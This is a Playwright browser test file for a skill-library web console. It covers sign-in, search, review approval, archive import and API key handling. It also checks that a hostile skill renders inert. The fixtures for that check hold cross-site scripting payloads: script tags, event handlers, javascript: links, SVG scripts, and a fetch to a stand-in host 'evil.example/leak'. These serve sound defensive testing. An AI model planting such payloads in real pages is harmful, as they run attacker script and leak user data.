@@ -1,0 +1,316 @@
+"""The web console (issue 17) in a real browser: Debian's Chromium
+(/usr/bin/chromium, never a browser download) driven by Playwright.
+
+Each page is used the way a person would: sign in, search, open a skill, read
+a file, approve a held skill, upload an archive, create and revoke a key, see
+the activity. A hostile skill renders inert: no script of it runs and no
+request leaves the page. axe-core (fetched by scripts/fetch-axe.sh into
+target/axe-core/) finds no serious or critical violation on any page.
+Screenshots of every page go to target/console-screenshots/ (not committed).
+"""
+
+from __future__ import annotations
+
+import io
+import re
+import shutil
+import subprocess
+import threading
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from conftest import PROJECT_FIXTURES, REPO
+
+from playwright import sync_api as playwright_api
+
+CHROMIUM = Path("/usr/bin/chromium")
+AXE = REPO / "target" / "axe-core" / "axe.min.js"
+SHOTS = REPO / "target" / "console-screenshots"
+
+HOSTILE_MD = """---
+name: hostile-page
+description: <script>window.__pwned = 'description'</script> looks harmless
+tags: ["<img src=x onerror=\\"window.__pwned='tag'\\">"]
+---
+# Hostile
+
+<script>window.__pwned = 'script'; fetch('https://evil.example/leak')</script>
+
+[click me](javascript:window.__pwned='link') and [ok](https://example.com/)
+
+<img src="https://evil.example/pixel.png" onerror="window.__pwned='img'">
+
+<a href="#" onclick="window.__pwned='onclick'">handler</a>
+
+<svg><script>window.__pwned='svg'</script><circle onload="window.__pwned='svg-onload'"/></svg>
+
+<iframe src="https://evil.example/frame"></iframe>
+
+<style>body { background: url(https://evil.example/bg.png) }</style>
+
+![pixel](https://evil.example/md-pixel.png)
+
+""" + ("A" * (1024 * 1024)) + "\n"
+
+HOSTILE_SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>window.parent.__pwned='svg-file'</script><image href="https://evil.example/svg-pixel.png"/></svg>"""
+
+
+class ConsoleServer:
+    """`skill-mcp serve --http 127.0.0.1:0 --scan-policy block` on a library."""
+
+    def __init__(self, cli, *args: str):
+        self.proc = subprocess.Popen(
+            cli.argv("serve", "--http", "127.0.0.1:0", "--scan-policy", "block", *args),
+            stdin=subprocess.DEVNULL,
+            stdout=subprocess.DEVNULL,
+            stderr=subprocess.PIPE,
+            text=True,
+        )
+        self.base = ""
+        ready = threading.Event()
+
+        def drain() -> None:
+            assert self.proc.stderr is not None
+            for line in self.proc.stderr:
+                m = re.search(r"listening on (http://[0-9.:]+)", line)
+                if m and not ready.is_set():
+                    self.base = m.group(1)
+                    ready.set()
+
+        threading.Thread(target=drain, daemon=True).start()
+        if not ready.wait(60):
+            self.proc.kill()
+            raise AssertionError("the server did not announce its address")
+
+    def stop(self) -> None:
+        self.proc.terminate()
+        try:
+            self.proc.wait(30)
+        except subprocess.TimeoutExpired:
+            self.proc.kill()
+
+
+@pytest.fixture(scope="module")
+def browser():
+    if not CHROMIUM.exists():
+        pytest.fail("/usr/bin/chromium is missing: run scripts/test.sh as root (it runs apt-get install -y chromium)")
+    if not AXE.exists():
+        subprocess.run([str(REPO / "scripts" / "fetch-axe.sh")], check=True)
+    SHOTS.mkdir(parents=True, exist_ok=True)
+    with playwright_api.sync_playwright() as p:
+        b = p.chromium.launch(executable_path=str(CHROMIUM), args=["--no-sandbox"])
+        yield b
+        b.close()
+
+
+@pytest.fixture
+def console(cli, fixtures_dir, tmp_path):
+    cli("import", str(fixtures_dir), check=True)
+    # The injected fixture has a high-severity scanner finding: held as a draft.
+    cli("import", "--scan-policy", "block", str(PROJECT_FIXTURES / "hostile" / "injected"), check=True)
+    hostile = tmp_path / "src" / "hostile-page"
+    (hostile / "assets").mkdir(parents=True)
+    (hostile / "SKILL.md").write_text(HOSTILE_MD)
+    (hostile / "page.html").write_text("<script>window.__pwned='html-file'</script>")
+    (hostile / "assets" / "logo.svg").write_bytes(HOSTILE_SVG)
+    cli("import", str(hostile), check=True)
+    token = cli("keys", "create", "--role", "admin", "--name", "ops", check=True).stdout.strip().splitlines()[-1]
+    reader = cli("keys", "create", "--role", "reader", "--name", "agent", check=True).stdout.strip().splitlines()[-1]
+    server = ConsoleServer(cli)
+    yield server, token, reader
+    server.stop()
+
+
+def check_page(page, name: str) -> None:
+    """Screenshot, then axe-core: no serious or critical violation."""
+    page.screenshot(path=str(SHOTS / f"{name}.png"), full_page=False)
+    # Evaluated through the DevTools protocol, where the page's CSP (no
+    # inline script) does not apply; a <script> tag would be refused.
+    if not page.evaluate("() => typeof window.axe === 'object'"):
+        page.evaluate(AXE.read_text() + "\n;true")
+    result = page.evaluate("async () => await axe.run(document)")
+    bad = [
+        f"{v['id']} ({v['impact']}): {v['help']} at {[n['target'] for n in v['nodes']][:3]}"
+        for v in result["violations"]
+        if v["impact"] in ("serious", "critical")
+    ]
+    assert bad == [], f"{name}: {bad}"
+
+
+def sign_in(page, base: str, token: str) -> None:
+    page.goto(f"{base}/console/")
+    assert page.url.endswith("/console/sign-in")
+    page.get_by_label("Admin API key").fill(token)
+    page.get_by_role("button", name="Sign in").click()
+    page.wait_for_url(f"{base}/console/library")
+
+
+def archive_of(name: str) -> bytes:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as z:
+        z.writestr(
+            f"{name}/SKILL.md",
+            f"---\nname: {name}\ndescription: Uploaded from the console test.\n---\n# {name}\n\nUse it.\n",
+        )
+    return buf.getvalue()
+
+
+def test_a_person_runs_the_library_from_the_console(browser, console, tmp_path):
+    server, token, reader = console
+    base = server.base
+    context = browser.new_context()
+    page = context.new_page()
+
+    # A reader key is refused, with the reason.
+    page.goto(f"{base}/console/sign-in")
+    check_page(page, "01-sign-in")
+    page.get_by_label("Admin API key").fill(reader)
+    page.get_by_role("button", name="Sign in").click()
+    assert "This is a reader key" in page.get_by_role("alert").inner_text()
+
+    sign_in(page, base, token)
+    check_page(page, "02-library")
+    assert "held for review" in page.locator(".counts").inner_text()
+
+    # Search, ranked like skill_search.
+    page.get_by_label("Search").fill("code review")
+    page.get_by_role("button", name="Apply").click()
+    page.wait_for_url(re.compile(r".*q=code.*"))
+    first = page.locator("table.skills tbody tr").first
+    assert "code-review" in first.inner_text()
+    check_page(page, "03-library-search")
+
+    # Filter by status: the held draft.
+    page.goto(f"{base}/console/library?status=draft")
+    rows = page.locator("table.skills tbody tr")
+    assert rows.count() == 1
+    assert "draft" in rows.first.inner_text()
+
+    # Open a skill, then one of its files.
+    page.goto(f"{base}/console/library?q=code+review")
+    page.locator("table.skills tbody tr").first.get_by_role("link").click()
+    page.wait_for_url(re.compile(r".*/console/skills/code-review$"))
+    assert page.get_by_role("heading", name="Findings", exact=False).is_visible()
+    check_page(page, "04-skill")
+    page.get_by_role("link", name="SKILL.md").click()
+    assert "code-review" in page.locator("pre.viewer").inner_text().lower() or page.locator("pre.viewer").is_visible()
+    check_page(page, "05-file")
+    # An image is shown as an image.
+    page.goto(f"{base}/console/skills/code-review")
+    page.get_by_role("link", name="assets/review-flow.png").click()
+    image = page.get_by_role("img", name=re.compile("review-flow.png"))
+    image.wait_for()
+    page.wait_for_function("() => document.querySelector('img.shown').complete")
+    assert page.evaluate("() => document.querySelector('img.shown').naturalWidth") > 0
+    check_page(page, "05b-image")
+
+    # Edit category and tags.
+    page.goto(f"{base}/console/skills/code-review")
+    page.get_by_label("Category").fill("quality")
+    page.get_by_label("Tags (comma-separated)").fill("review, git")
+    page.get_by_role("button", name="Save category and tags").click()
+    assert "Category and tags saved." in page.get_by_role("status").first.inner_text()
+
+    # The review queue: approve the held skill.
+    page.goto(f"{base}/console/review")
+    check_page(page, "06-review")
+    held = page.locator("article.held")
+    assert held.count() == 1
+    held_slug = held.locator(".slug").first.inner_text()
+    page.on("dialog", lambda d: d.accept())
+    held.get_by_role("button", name=re.compile("^Approve")).click()
+    page.wait_for_url(re.compile(r".*/console/review\?done=approved"))
+    assert page.locator("article.held").count() == 0
+    page.goto(f"{base}/console/skills/{held_slug}")
+    assert page.locator(".badge.published").first.is_visible()
+
+    # Import an uploaded archive.
+    page.goto(f"{base}/console/import")
+    check_page(page, "07-import")
+    archive = tmp_path / "upload.zip"
+    archive.write_bytes(archive_of("uploaded-skill"))
+    page.get_by_label("Archive").set_input_files(str(archive))
+    page.get_by_role("button", name="Import").click()
+    report = page.locator("table.report")
+    assert "uploaded-skill" in report.inner_text()
+    assert "created" in report.inner_text()
+    check_page(page, "08-import-report")
+
+    # Create a key (shown once, with a copy button), then revoke it.
+    page.goto(f"{base}/console/keys")
+    page.get_by_label("Name").fill("ci-runner")
+    page.get_by_role("button", name="Create key").click()
+    new_key = page.locator("#new-key").inner_text()
+    assert new_key.startswith("skm_")
+    assert page.get_by_role("button", name="Copy").is_visible()
+    check_page(page, "09-keys-created")
+    page.goto(f"{base}/console/keys")
+    assert new_key not in page.content(), "shown once"
+    page.get_by_role("button", name="Revoke ci-runner").click()
+    page.wait_for_url(re.compile(r".*/console/keys\?done=revoked"))
+    assert "revoked" in page.locator("table.keys").inner_text()
+    check_page(page, "10-keys")
+
+    # Activity: the chart and the tables.
+    page.goto(f"{base}/console/activity")
+    assert page.locator("figure.chart svg").is_visible()
+    audit = page.locator("table.audit").inner_text()
+    assert "ops (console)" in audit and "key-revoke" in audit, audit
+    check_page(page, "11-activity")
+
+    # Delete with confirmation.
+    page.goto(f"{base}/console/skills/uploaded-skill")
+    page.get_by_role("link", name="Delete…").click()
+    check_page(page, "12-delete")
+    page.get_by_role("button", name="Delete uploaded-skill").click()
+    page.wait_for_url(re.compile(r".*/console/library.*"))
+    assert page.goto(f"{base}/console/skills/uploaded-skill").status == 404
+
+    # Sign out: the console asks to sign in again.
+    page.goto(f"{base}/console/library")
+    page.get_by_role("button", name="Sign out").click()
+    page.wait_for_url(f"{base}/console/sign-in")
+    page.goto(f"{base}/console/keys")
+    assert page.url.endswith("/console/sign-in")
+    context.close()
+
+
+def test_a_hostile_skill_renders_inert(browser, console):
+    server, token, _ = console
+    base = server.base
+    context = browser.new_context()
+    page = context.new_page()
+    foreign: list[str] = []
+    dialogs: list[str] = []
+    # A request the page's CSP blocks is reported by Chromium as attempted and
+    # then failed with "csp": it never left. Anything else off-origin did.
+    page.on("requestfinished", lambda r: None if r.url.startswith(base) else foreign.append(r.url))
+    page.on(
+        "requestfailed",
+        lambda r: None if r.url.startswith(base) or r.failure == "csp" else foreign.append(f"{r.url} ({r.failure})"),
+    )
+    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+    sign_in(page, base, token)
+    for path, name in [
+        ("/console/skills/hostile-page", "13-hostile-skill"),
+        ("/console/skills/hostile-page/files/page.html", "14-hostile-file"),
+        ("/console/skills/hostile-page/files/assets/logo.svg", "15-hostile-svg"),
+        ("/console/library?q=hostile", "16-hostile-search"),
+    ]:
+        response = page.goto(base + path)
+        assert response is not None and response.status == 200, path
+        page.wait_for_load_state("load")
+        assert page.evaluate("() => window.__pwned === undefined"), f"{path}: a script of the skill ran"
+        # The skill's links are inert: no javascript: href anywhere.
+        hrefs = page.eval_on_selector_all("a[href]", "els => els.map(e => e.getAttribute('href'))")
+        assert not [h for h in hrefs if h.strip().lower().startswith("javascript")], path
+        assert page.locator("[onclick], [onerror], [onload]").count() == 0, path
+        check_page(page, name)
+    # The SVG opened on its own runs nothing either (sandboxed by its CSP).
+    page.goto(f"{base}/console/skills/hostile-page/raw/assets/logo.svg")
+    assert page.evaluate("() => window.__pwned === undefined")
+    assert dialogs == []
+    assert foreign == [], f"requests left the page: {foreign}"
+    context.close()
